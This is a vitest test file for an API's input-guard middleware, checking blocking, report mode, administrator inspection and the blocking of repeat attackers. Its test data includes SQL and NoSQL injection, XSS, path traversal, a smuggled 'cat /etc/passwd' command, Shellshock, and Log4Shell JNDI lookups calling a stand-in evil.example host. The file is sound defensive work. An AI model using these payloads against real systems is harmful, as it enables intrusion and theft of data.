import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PASSWORD, type Answer, type Api } from '../api.js';
import { ADMIN, startApp, type TestApp } from '../app.js';

const INJECTION = "x' OR 1=1 --";
const ACTIVE = 'Ada <b>the first</b> <link rel=stylesheet href=//evil.example/a.css>';
let counter = 0;

/** Registers under a name; returns the answer and what was stored, undefined if nothing was. */
async function register(api: Api, name: string, headers?: Record<string, string>) {
  const email = `guard-${++counter}@example.com`;
  const answer = await api.post(
    '/v1/auth/register',
    { email, password: PASSWORD, name },
    { headers },
  );
  const { status, body } = await api.logIn(email);
  if (status !== 200) return { answer, stored: undefined };
  const me = await api.get<{ name: string }>('/v1/users/me', { token: body.accessToken });
  return { answer, stored: me.body.name };
}

function expectProblem({ status, body }: Answer, slug: string): void {
  expect({ status, type: body['type'] }).toEqual({ status: 403, type: `/docs/problems/${slug}` });
}

const findingsOf = ({ lines }: TestApp) =>
  lines.filter(({ action }) => action === 'security.input_suspicious');

/** What `fetch` cannot do: a request that does not say by whom it is made. */
function getWithoutUserAgent(url: string): Promise<string> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () =>
      socket.write('GET /docs/problems HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n'),
    );
    let received = '';
    socket.on('data', (chunk) => (received += chunk.toString()));
    socket.on('close', () => resolve(received));
  });
}

const attack = ({ api }: TestApp, headers?: Record<string, string>) =>
  api.get(`/docs/problems?q=${encodeURIComponent(INJECTION)}`, { headers });

describe('in block mode', () => {
  let test: TestApp;
  let api: Api;
  beforeAll(async () => {
    test = await startApp({ GUARD_CLIENT_SCORE: '100000' });
    api = test.api;
  });
  afterAll(() => test[Symbol.asyncDispose]());

  it('an attack is refused with a problem, stored nowhere, and recorded without what it said', async () => {
    const { answer, stored } = await register(api, INJECTION);
    expectProblem(answer, 'suspicious-input');
    expect(stored).toBeUndefined();
    const requestId = answer.body['requestId'] as string;
    const event = {
      requestId,
      metadata: {
        field: 'body.name',
        action: 'block',
        score: expect.any(Number),
        rules: expect.stringContaining('sql-'),
      },
    };
    expect(findingsOf(test).filter((line) => line['requestId'] === requestId)).toMatchObject([
      event,
    ]);
    const admin = (await test.logInAdmin()).accessToken;
    await expect
      .poll(() => api.auditOf(admin, `&requestId=${requestId}`))
      .toMatchObject([{ action: 'security.input_suspicious', severity: 'warning', ...event }]);
    expect(JSON.stringify(test.lines)).not.toContain('OR 1=1');
    expect(JSON.stringify(await api.auditOf(admin))).not.toContain('OR 1=1');
  });

  it.each([
    ['script', '<script>alert(1)</script>'],
    ['an event handler', '<img src=x onerror=alert(1)>'],
    ['a path', '../../../../etc/passwd'],
    ['a command', '; cat /etc/passwd'],
    ['a lookup', '${jndi:ldap://evil.example/a}'],
  ])('%s is refused in the body and in the query', async (_what, text) => {
    const { answer, stored } = await register(api, text);
    expectProblem(answer, 'suspicious-input');
    expect(stored).toBeUndefined();
    const query = await api.get(`/docs/problems?q=${encodeURIComponent(text)}`);
    expectProblem(query, 'suspicious-input');
  });

  it('a query operator where a name belongs is refused', async () => {
    const body = { email: { $ne: '' }, password: { $ne: '' } };
    expectProblem(await api.post('/v1/auth/login', body), 'suspicious-input');
    expectProblem(await api.get('/docs/problems?user[$ne]=1'), 'suspicious-input');
  });

  it.each([
    ['user-agent', 'sqlmap/1.8#stable (https://sqlmap.org)'],
    ['user-agent', '() { :; }; /bin/id'],
    ['x-api-version', '${jndi:ldap://evil.example/a}'],
    ['referer', 'https://x.example/${${lower:j}ndi:ldap://evil.example/a}'],
  ])('an attack in the header %s is refused', async (name, value) => {
    expectProblem(
      await api.get('/docs/problems', { headers: { [name]: value } }),
      'suspicious-input',
    );
    expect(findingsOf(test).at(-1)).toMatchObject({ metadata: { field: `header.${name}` } });
    expect(JSON.stringify(findingsOf(test))).not.toContain('evil.example');
  });

  it.each([
    "O'Brien <3 AT&T",
    'a < b && c > d',
    'select all from the menu',
    'if (a < b && c > d) {\n\treturn `${a}: ${b}`;\r\n}',
    '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧 naïve 東京',
    'Robert "Bob" O’Neil; 50% off @ #1 -- call & collect',
    '\\u0000 &amp; %20 {{name}}',
  ])('the honest text %j comes back byte for byte', async (name) => {
    expect(await register(api, name)).toMatchObject({ answer: { status: 202 }, stored: name });
  });

  it('what cannot be stored as it is, is normalised', async () => {
    expect((await register(api, 'ab\u0007c')).stored).toBe('abc');
    expect((await register(api, 'cafe\u0301')).stored).toBe('café');
  });

  it('what no database keeps is refused, not mended', async () => {
    for (const name of ['a\u0000b', 'half \ud83d of a pair']) {
      expect((await register(api, name)).answer).toMatchObject({
        status: 400,
        body: { type: '/docs/problems/malformed' },
      });
    }
  });

  it('active markup below the threshold is taken out, and the rest is kept', async () => {
    const { answer, stored } = await register(api, ACTIVE);
    expect(answer.status).toBe(202);
    expect(stored).toBe('Ada <b>the first</b> ');
  });

  it('a password may be anything, and is never read, changed or recorded', async () => {
    const before = findingsOf(test).length;
    const password = "<script>'; DROP TABLE users; -- cafe\u0301";
    const email = 'secretive@example.com';
    expect((await api.register(email, password)).status).toBe(202);
    expect((await api.logIn(email, password)).status).toBe(200);
    expect((await api.logIn(email, password.normalize('NFC'))).status).toBe(401);
    expect(findingsOf(test)).toHaveLength(before);
    expect(JSON.stringify(test.lines)).not.toContain('DROP TABLE');
  });

  it('a secret under an unknown name is not recorded either', async () => {
    const body = { email: 'a@example.com', password: PASSWORD, api_token: INJECTION };
    expect((await api.post('/v1/auth/register', body)).status).toBe(400);
    expect(JSON.stringify(test.lines)).not.toContain('OR 1=1');
  });

  it('too many names or levels are a 400', async () => {
    const names = Object.fromEntries(Array.from({ length: 1_001 }, (_, i) => [`k${i}`, 1]));
    expect((await api.post('/v1/auth/login', names)).body['type']).toBe('/docs/problems/malformed');
    const query = `/v1/users?${Object.keys(names).join('&')}`;
    expect((await api.get(query)).body['type']).toBe('/docs/problems/malformed');
    const deep = `{"a":${'['.repeat(40)}${']'.repeat(40)}}`;
    const answer = await api.post('/v1/auth/login', undefined, { raw: deep });
    expect(answer.body['type']).toBe('/docs/problems/malformed');
    const fits = Object.fromEntries(Array.from({ length: 999 }, (_, i) => [`k${i}`, 1]));
    expect((await api.post('/v1/auth/login', fits)).body['type']).toBe('/docs/problems/validation');
  });

  it('a client that says no user agent is reported once, and served', async () => {
    expect(await getWithoutUserAgent(api.url)).toContain('HTTP/1.1 200');
    expect(await getWithoutUserAgent(api.url)).toContain('HTTP/1.1 200');
    const own = findingsOf(test).filter((line) =>
      JSON.stringify(line).includes('client-without-user-agent'),
    );
    expect(own).toHaveLength(1);
  });

  it('nothing that is thrown at it ends in a 5xx', async () => {
    const admin = (await test.logInAdmin()).accessToken;
    for (const text of naughty) {
      const { answer } = await register(api, text);
      expect([text, answer.status < 500]).toEqual([text, true]);
      const query = await api.get(`/v1/audit?actor=${encodeURIComponent(text.toWellFormed())}`, {
        token: admin,
      });
      expect([text, query.status < 500]).toEqual([text, true]);
      const raw = JSON.stringify({ [text]: { [text]: [text] } });
      const names = await api.post('/v1/auth/login', undefined, { raw });
      expect([text, names.status < 500]).toEqual([text, true]);
    }
  });
});

const naughty = [
  '',
  ' ',
  '\u0000',
  '\ud800',
  '\udfff\ud800',
  '\ufeff\u200b\u202e',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-1e999',
  '%',
  '%00',
  '%u0000',
  '&#x110000;',
  '\\u{110000}',
  'Ω≈ç√∫˜µ≤≥÷',
  'ﷺ',
  'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮',
  '\' -- ; /* */ " ` | & $() {{}} <% %> <!-- -->',
  '<'.repeat(3_000),
  '${'.repeat(2_000),
  '\'"'.repeat(2_000),
  'a'.repeat(50_000),
];

describe('in report mode', () => {
  it('an attack is recorded, its markup neutralised, and the request served', async () => {
    await using test = await startApp({ GUARD_MODE: 'report', GUARD_CLIENT_SCORE: '1' });
    expect(await register(test.api, INJECTION)).toMatchObject({
      answer: { status: 202 },
      stored: INJECTION,
    });
    expect(findingsOf(test)).toMatchObject([{ metadata: { action: 'report' } }]);
    const script = await register(test.api, 'Hi <script>alert(1)</script>there');
    expect(script).toMatchObject({ answer: { status: 202 }, stored: 'Hi there' });
  });
});

describe('switched off', () => {
  it('does nothing at all', async () => {
    await using test = await startApp({ GUARD_MODE: 'off' });
    expect(await register(test.api, ACTIVE)).toMatchObject({ stored: ACTIVE });
    expect((await register(test.api, INJECTION)).stored).toBe(INJECTION);
    expect(findingsOf(test)).toEqual([]);
  });
});

describe('the administrator', () => {
  it('asks what the guard would say', async () => {
    await using test = await startApp({ GUARD_CLIENT_SCORE: '1' });
    const token = (await test.logInAdmin()).accessToken;
    const ask = async (text: string) =>
      (await test.api.post('/hardening/guard/inspect', { text }, { token })).body;
    expect(await ask(INJECTION)).toMatchObject({
      action: 'block',
      score: expect.any(Number),
      findings: expect.arrayContaining([{ rule: expect.any(String), score: expect.any(Number) }]),
      sanitised: INJECTION,
    });
    expect(await ask('select all from the menu')).toEqual({
      action: 'pass',
      score: 0,
      findings: [],
      sanitised: 'select all from the menu',
    });
    expect(await ask('Hi <script>alert(1)</script>')).toMatchObject({
      action: 'block',
      sanitised: 'Hi ',
    });
    expect(findingsOf(test)).toEqual([]);
  });
});

describe('a client that goes on attacking', () => {
  it('is refused, listed, and let in again by an administrator', async () => {
    await using test = await startApp();
    const token = (await test.logInAdmin()).accessToken;
    for (let i = 1; i <= 7; i++) expectProblem(await attack(test), 'suspicious-input');

    const refused = await test.api.get('/docs/problems');
    expectProblem(refused, 'client-blocked');
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(880);
    expect((await test.api.get('/health/live')).status).toBe(200);

    expectProblem(await test.api.get('/v1/users/me', { token }), 'client-blocked');
    // an operator at that address goes on with the console; nobody signs in from there
    for (const path of ['/console', '/v1/users/operator', '/v1/alerts', '/v1/audit', '/v1/users']) {
      expect({ path, status: (await test.api.get(path, { token })).status }).toEqual({
        path,
        status: 200,
      });
    }
    expect((await test.api.post('/v1/auth/refresh', {})).status).toBe(400);
    const { email, password } = ADMIN;
    expectProblem(await test.api.post('/v1/auth/login', { email, password }), 'client-blocked');

    const list = () =>
      test.api.get<{ items: { client: string; until: string }[] }>('/hardening/guard/blocked', {
        token,
      });
    expect((await list()).body).toEqual({
      items: [{ client: '127.0.0.1', score: 56, until: expect.any(String) }],
      nextCursor: null,
    });
    const lift = () =>
      test.api.request('DELETE', '/hardening/guard/blocked/127.0.0.1', undefined, { token });
    expect((await lift()).status).toBe(204);
    expect((await lift()).status).toBe(404);
    expect((await list()).body.items).toEqual([]);
    expect((await test.api.get('/docs/problems')).status).toBe(200);
    await expect
      .poll(async () => (await test.api.auditOf(token)).map(({ action }) => action))
      .toEqual(expect.arrayContaining(['security.client_blocked', 'security.client_unblocked']));
  });

  it('is let in by itself when the time is over', async () => {
    await using test = await startApp({ GUARD_CLIENT_SCORE: '8', GUARD_CLIENT_BLOCK: '1s' });
    expectProblem(await attack(test), 'suspicious-input');
    expectProblem(await test.api.get('/docs/problems'), 'client-blocked');
    await expect
      .poll(async () => (await test.api.get('/docs/problems')).status, { timeout: 5_000 })
      .toBe(200);
  });

  it('gains nothing by a forged address, and puts the block on nobody else', async () => {
    await using test = await startApp({ GUARD_CLIENT_SCORE: '16' });
    await attack(test, { 'x-forwarded-for': '203.0.113.1' });
    await attack(test, { 'x-forwarded-for': '203.0.113.2' });
    const headers = { 'x-forwarded-for': '203.0.113.3' };
    expectProblem(await test.api.get('/docs/problems', { headers }), 'client-blocked');
  });

  it('is told apart by the address that a trusted proxy vouches for, IPv6 by /64', async () => {
    await using test = await startApp({ TRUST_PROXY: '1', GUARD_CLIENT_SCORE: '16' });
    const token = (await test.logInAdmin()).accessToken;
    await attack(test, { 'x-forwarded-for': '2001:db8:1:2::1' });
    await attack(test, { 'x-forwarded-for': '2001:db8:1:2:ffff::9' });
    const from = (address: string) =>
      test.api.get('/docs/problems', { headers: { 'x-forwarded-for': address } });
    expectProblem(await from('2001:db8:1:2:3:4:5:6'), 'client-blocked');
    expect((await from('2001:db8:1:3::1')).status).toBe(200);
    const path = `/hardening/guard/blocked/${encodeURIComponent('2001:db8:1:2::/64')}`;
    const lifted = await test.api.request('DELETE', path, undefined, { token });
    expect(lifted.status).toBe(204);
    expect((await from('2001:db8:1:2::1')).status).toBe(200);
  });
});
